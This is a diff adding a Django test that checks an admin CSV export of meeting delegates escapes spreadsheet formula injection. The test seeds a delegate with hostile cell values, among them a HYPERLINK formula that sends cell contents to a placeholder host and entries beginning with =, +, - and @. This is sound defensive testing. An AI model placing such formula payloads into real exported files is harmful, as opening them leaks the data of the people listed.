@@ -130,3 +130,32 @@ def test_admin_export_action_two_meetings_refused(client, meeting):
                            follow=True)
 
     assert "Select delegations of one meeting" in response.content.decode()
+
+
+# --- CSV injection (issue 22, item 3) -----------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://x/"&A1,"Click")'
+
+
+def test_admin_participants_csv_neutralises_formula_cells(client, meeting):
+    user = StaffUserFactory()
+    user.groups.add(Group.objects.get(name=SECRETARIAT_EDITORS))
+    client.force_login(user)
+    delegation = meeting.delegations.get(state__name_en="Turkmenistan")
+    DelegateFactory(
+        delegation=delegation, role=DelegateRole.DELEGATE, surname_latin=FORMULA,
+        given_names_latin="+Aman", surname_cyrillic="-Аманов", given_names_cyrillic="@Аман",
+        position="\tMinister", agency="\rAgency", dietary_needs="=1+1",
+        accessibility_needs="Wheelchair",
+    )
+    selected = list(meeting.delegations.values_list("pk", flat=True))
+
+    response = client.post("/en/admin/meetings/delegation/",
+                           {"action": "export_csv", "_selected_action": selected})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = next(row for row in rows if row[3].endswith(FORMULA))
+    assert row[3:9] == ["'" + FORMULA, "'+Aman", "'-Аманов", "'@Аман", "'\tMinister",
+                        "'\rAgency"]
+    assert row[12:14] == ["'=1+1", "Wheelchair"]
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
